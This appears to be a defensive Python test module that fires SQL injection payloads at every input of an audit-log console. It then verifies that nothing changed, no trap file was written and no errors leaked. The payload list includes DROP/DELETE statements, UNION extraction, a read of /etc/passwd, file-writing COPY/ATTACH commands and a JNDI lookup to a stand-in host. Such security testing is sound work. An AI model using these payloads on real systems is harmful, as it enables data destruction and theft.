"""SQL injection in every input: it must neither change nor reveal anything."""

from __future__ import annotations

import time
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import httpx2
from tests.console.conftest import csrf

from anthropic_audit.archive import open_reader
from anthropic_audit.console.views.overview import RANKED

from .target import Attack, Grounds, Try, attack

TRAP = "trap.csv"
PAYLOADS = (
    "' OR '1'='1",
    '" OR 1=1 --',
    "'; DROP TABLE events; --",
    "'); DELETE FROM events; --",
    "1) OR (1=1",
    "') UNION SELECT seq, feed, document FROM events --",
    "0 UNION ALL SELECT raw FROM activities",
    "'||(SELECT string_agg(table_name) FROM information_schema.tables)||'",
    "(SELECT content FROM read_text('/etc/passwd'))",
    "x'; COPY (SELECT 42) TO '{trap}'; --",
    "x'; ATTACH '{trap}' AS evil; --",
    "x'; INSTALL httpfs; LOAD httpfs; --",
    "x'; SET GLOBAL threads = 1; --",
    "x'; SELECT sum(a.range * b.range) FROM range(1000000) a, range(100000) b; --",
    "%' ESCAPE '' OR 1=1 --",
    "\\'; SELECT 1; --",
    "$1",
    "?",
    "{{7*191}}",
    "${{jndi:ldap://evil.example}}",
    "\0'; --",
    "document",
    "/*",
)
REVEALING_ERRORS = (
    "Parser Error",
    "Binder Error",
    "Catalog Error",
    "Conversion Error",
    "Invalid Input",
    "LINE 1:",
    "Traceback",
)
REVEALING_WORDS = ("duckdb", "site-packages", "read_parquet", "root:x:", "unexpected error")
RANKING = [f"/api/overview/{name}" for name in list(RANKED)[:1]]
QUERY_PARAMETERS = ("from", "to", "q", "filter")
SLOW_SECONDS = 2.5
THREADS = 3
TRIES = 3


@dataclass(frozen=True, slots=True)
class Input:
    """An input of the console: a parameter, or a segment of a path."""

    path: str
    parameter: str = ""
    form: str = "{}"


def inputs() -> Iterator[Input]:
    """Yield each parameter and each path segment of every page and API endpoint."""
    queried = ("/api/overview/numbers", *RANKING, "/api/events", "/api/over-time", "/export/csv")
    more = {
        "/api/events": ("columns", "sort", "after", "tz"),
        "/api/values": (*QUERY_PARAMETERS, "field"),
        "/api/completions": ("from", "to", "text"),
        "/api/entity/seen/user/x": QUERY_PARAMETERS,
        "/export/csv": ("columns", "sort"),
        "/export/parquet": ("columns", "sort"),
        "/explore": QUERY_PARAMETERS,
        "/": QUERY_PARAMETERS,
    }
    for path, names in [*((path, QUERY_PARAMETERS) for path in queried), *more.items()]:
        for name in names:
            yield Input(path, name)
            if name in {"q", "filter"}:
                yield from (
                    Input(path, name, form) for form in ('user.email : "{}"', "{} : x", "event.action : ({} or x)")
                )
                yield Input(path, name, "http.response.status_code >= {}")
    for path in ("/event/{}", "/entity/{}/x", "/entity/user/{}", "/api/entity/{}/user/x", "/api/entity/seen/{}/x"):
        yield Input(path)
    for path in ("/api/entity/latest/user/{}", "/api/overview/{}", "/export/{}", "/api/entity/{}/key/x"):
        yield Input(path)
    yield Input("/api/completions", "text", 'user.email : "{}')


def sql(grounds: Grounds) -> Iterator[Attack]:
    """Send SQL in every input."""
    served = grounds.serve()
    client, trap = served.inside(), grounds.archive.parent / TRAP
    before, counted = grounds.digest(), _counts(grounds)
    payloads = [one.replace("{trap}", str(trap)) for one in PAYLOADS]
    yield attack("SQL in every parameter and every path segment", _everywhere(client, payloads))
    yield attack("SQL as a value matches that text only", _as_a_value(client, payloads))
    yield attack("SQL in saved searches", _saved(client, payloads))
    yield attack("afterwards: the archive's bytes, the counts, no new file", _after(grounds, before, counted, trap))


def _everywhere(client: httpx2.Client, payloads: Sequence[str]) -> Iterator[Try]:
    with ThreadPoolExecutor(THREADS) as threads:
        for found in threads.map(lambda one: list(_at(client, one, payloads)), inputs()):
            yield from found


def _at(client: httpx2.Client, place: Input, payloads: Sequence[str]) -> Iterator[Try]:
    for payload in payloads:
        text = place.form.replace("{}", payload)
        if place.parameter:
            path = f"{place.path}?{place.parameter}={quote(text, safe='')}"
        else:
            path = place.path.replace("{}", quote(text, safe=""))
        answer, is_quick = _asked(client, path)
        yield Try(
            path,
            f"{answer.status_code}",
            answer.status_code in {200, 400, 404} and is_quick and _reveals_nothing(answer),
        )


def _asked(client: httpx2.Client, path: str) -> tuple[httpx2.Response, bool]:
    """Return the response to a request, and whether it was quick; repeat a slow request, as the host may be busy."""
    for _ in range(TRIES):
        began = time.monotonic()
        answer = client.get(path)
        if time.monotonic() - began < SLOW_SECONDS:
            return answer, True
    return client.get(path), False


def _reveals_nothing(answer: httpx2.Response) -> bool:
    return not any(words in answer.text for words in (*REVEALING_ERRORS, *REVEALING_WORDS))


def _as_a_value(client: httpx2.Client, payloads: Sequence[str]) -> Iterator[Try]:
    for payload in payloads:
        text = payload.replace("\\", "\\\\").replace('"', '\\"').replace("*", "\\*")
        for field in ("user.email", "event.action", "source.ip", "anthropic.audit.mcp_server_name"):
            answer = client.get("/api/over-time", params={"q": f'{field} : "{text}"', "from": "now-30d"})
            events = answer.json().get("events", 0)
            yield Try(
                f"{field} {payload}", f"{events} events" if answer.is_success else f"{answer.status_code}", events == 0
            )


def _saved(client: httpx2.Client, payloads: Sequence[str]) -> Iterator[Try]:
    token = csrf(client)
    for payload in payloads:
        form = {"name": payload, "query": f"q={payload}", "csrf": token}
        answer = client.post("/api/searches", data=form)
        yield Try(payload, f"{answer.status_code}", answer.status_code in {200, 400} and _reveals_nothing(answer))
    saved = {one["name"] for one in client.get("/api/searches").json()}
    yield Try(
        "as they were",
        "saved unchanged",
        {" ".join(one.split()) for one in payloads if one.isprintable()} == saved,
    )
    for name in saved:
        client.post("/api/searches", data={"do": "remove", "name": name, "csrf": token})


def _counts(grounds: Grounds) -> Sequence[int]:
    with open_reader(str(grounds.archive)).connect() as connection:
        return [connection.sql(f"SELECT count(*) FROM {name}").fetchall()[0][0] for name in ("activities", "events")]


def _after(grounds: Grounds, before: str, counted: Sequence[int], trap: Path) -> Iterator[Try]:
    yield Try("bytes", "all bytes unchanged", grounds.digest() == before)
    yield Try("counts", "all counts unchanged", _counts(grounds) == counted)
    yield Try("trap", "no file was written", not trap.exists())
